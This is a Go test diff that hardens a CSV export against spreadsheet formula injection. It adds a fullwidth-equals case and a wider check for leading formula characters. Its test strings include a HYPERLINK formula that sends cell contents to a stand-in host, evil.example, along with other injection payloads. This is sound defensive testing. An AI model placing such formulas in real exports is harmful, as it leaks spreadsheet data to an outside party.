@@ -26,7 +26,8 @@ func Used(ctx context.Context, s *store.Store, tenant, method, path, key string)
 // A node that lies says why a transaction failed in words that a spreadsheet takes for a formula: whoever opens the
 // export would run it.
 func TestAttack_AFormulaInAnExport(t *testing.T) {
-	for _, reason := range []string{`=HYPERLINK("https://evil.example/?"&A2&B2,"execution reverted")`, "+1 execution reverted", "-1 revert", "@SUM(A1) revert", "\t=1", "\r=1"} {
+	for _, reason := range []string{`=HYPERLINK("https://evil.example/?"&A2&B2,"execution reverted")`, "+1 execution reverted", "-1 revert", "@SUM(A1) revert", "\t=1", "\r=1",
+		"＝1+1 as some spreadsheets read it"} {
 		var out bytes.Buffer
 		s := newCSVSheet(&out)
 		require.NoError(t, s.add(TransactionSummary{FailureReason: &reason, Attention: &reason, RequestedBy: reason}))
@@ -34,7 +35,7 @@ func TestAttack_AFormulaInAnExport(t *testing.T) {
 		rows, err := csv.NewReader(&out).ReadAll()
 		require.NoError(t, err)
 		for i, cell := range rows[1] {
-			require.NotRegexp(t, `^[=+\-@\t\r]`, cell, csvColumns[i])
+			require.NotRegexp(t, `^[=+\-@\t\r＝＋－＠]`, cell, csvColumns[i])
 		}
 	}
 }
